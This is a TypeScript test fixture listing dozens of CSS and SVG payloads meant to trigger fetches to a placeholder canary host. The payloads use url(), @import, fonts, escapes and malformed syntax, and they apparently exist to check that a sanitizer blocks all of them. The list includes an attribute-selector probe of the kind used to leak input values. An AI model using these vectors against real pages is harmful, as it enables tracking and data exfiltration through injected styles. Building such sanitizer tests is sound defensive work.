import { CANARY_HOST } from "./hostile-payloads-constants";

/** CSS that fetches, each from its own URL: `//CANARY_HOST/…`. */

const address = (name: string) => `//${CANARY_HOST}/${name}`;

/** Declarations that fetch when they apply to a visible element. */
const declarations = [
  `background:url(${address("plain")})`,
  `background:URL(${address("capitals")})`,
  `background:url( "${address("double")}" )`,
  `background:url('${address("single")}')`,
  `background:url(\n${address("lines")}\n)`,
  `background:\\75 rl(${address("escaped")})`,
  `background:\\000075\\72\\6c(${address("escaped-all")})`,
  `background:u\\rl("${address("escaped-one")}")`,
  `background:url(http:\\2f\\2f ${CANARY_HOST}/escaped-address)`,
  `background:url(${address("end")}`,
  `background:/*'*/url(${address("comment")})/*'*/`,
  `background:image-set("${address("set")}" 1x, "${address("set-2")}" 2x)`,
  `background:image-set(url(${address("set-url")}) 1x type("image/png"))`,
  `background:-webkit-image-set(url(${address("webkit-set")}) 1x)`,
  `background:cross-fade(url(${address("fade")}), url(${address("fade-2")}), 50%)`,
  `background:-webkit-cross-fade(url(${address("webkit-fade")}), url(${address("webkit-fade-2")}), 50%)`,
  `background:image("${address("image")}")`,
  `background:src("${address("src")}")`,
  `--a:"${address("src-variable")}";background:src(var(--a))`,
  `--a:url(${address("variable")});background:var(--a)`,
  `--a:"${address("set-variable")}";background:image-set(var(--a) 1x)`,
  `background-image:linear-gradient(red,red),url(${address("second")})`,
  `border:9px solid;border-image:url(${address("border")}) 9`,
  `-webkit-border-image:url(${address("webkit-border")}) 9`,
  `display:list-item;list-style:url(${address("list")})`,
  `content:url(${address("content")})`,
  `cursor:url(${address("cursor")}),auto`,
  `cursor:image-set("${address("cursor-set")}" 1x),auto`,
  `filter:url(${address("filter")}#f)`,
  `filter:url(#local)`,
  `backdrop-filter:url(${address("backdrop")}#f)`,
  `clip-path:url(${address("clip")}#c)`,
  `mask:url(${address("mask")})`,
  `mask-image:url(${address("mask-image")}#m)`,
  `-webkit-mask:url(${address("webkit-mask")})`,
  `-webkit-mask-box-image:url(${address("mask-box")}) 9`,
  `-webkit-box-reflect:below 0 url(${address("reflect")})`,
  `shape-outside:url(${address("shape")});float:left`,
  `fill:url(${address("fill")}#a);stroke:url(${address("stroke")}#a)`,
  `marker:url(${address("marker")}#a)`,
  `offset-path:url(${address("offset")}#a)`,
  `behavior:url(${address("behavior")})`,
  `-moz-binding:url(${address("binding")}#x)`,
] as const;

/** Complete style sheets. */
const sheets = [
  `@import "${address("import")}";`,
  `@import url(${address("import-url")}) layer(x) supports(display:grid) screen;`,
  `@IMPORT/**/'${address("import-capitals")}'`,
  `@\\69mport "${address("import-escaped")}";`,
  `@charset "x";@import "${address("import-second")}";`,
  `@layer a;@import "${address("import-layer")}" layer(a);`,
  `@namespace url(${address("namespace")});@namespace x "${address("namespace-2")}";*{color:red}`,
  `@font-face{font-family:x;src:url(${address("font")}) format("woff2")}*{font-family:x}`,
  `@font-face{font-family:y;src:\\75rl("${address("font-escaped")}")}*{font-family:y}`,
  `@media screen{@supports (display:block){*{background:url(${address("nested")})}}}`,
  `@keyframes k{from,to{background:url(${address("keyframe")})}}*{animation:k 9s infinite}`,
  `@property --p{syntax:"<image>";inherits:true;initial-value:url(${address("property")})}*{background:var(--p)}`,
  `@counter-style c{system:cyclic;symbols:url(${address("symbol")})}*{display:list-item;list-style:c}`,
  `@page{background:url(${address("page")})}`,
  `@container (width>0){*{background:url(${address("container")})}}`,
  `@document url(${address("document")}){*{color:red}}`,
  `@view-transition{navigation:auto}`,
  `*{& div,&{background:url(${address("within")})}}`,
  `*::before,*::after{content:url(${address("before")})}`,
  `::selection,::marker,::backdrop{background:url(${address("selection")})}`,
  `input[value^=a]{background:url(${address("value")})}`,
  `:has(*){background:url(${address("has")})}`,
  `<!-- *{background:url(${address("html-comment")})} -->`,
  `*{background:url(${address("unclosed")}`,
  `*{content:'\n;background:url(${address("after-newline")})}`,
] as const;

/** Style sheets that must not fetch anything. */
export const hostileSheets: readonly string[] = [
  ...declarations.map((each) => `*{${each}}`),
  ...sheets,
];

export const stylePayloads: readonly string[] = [
  ...hostileSheets.map((each) => `<style>${each}</style>`),
  ...declarations.map((each) => `<p style="${each.replaceAll('"', "&quot;")}">styled</p>`),
  `<svg><filter id="local"><feImage href="${address("fe")}" xlink:href="${address("fe-2")}"/></filter><rect width="9" height="9" filter="url(#local)" fill="url(${address("attribute")}#a)" mask="url(${address("attribute-2")}#a)"/></svg>`,
  `<svg><style>@import "${address("svg")}";rect{fill:url(${address("svg-2")}#a)}</style><rect width="9" height="9"/></svg>`,
];
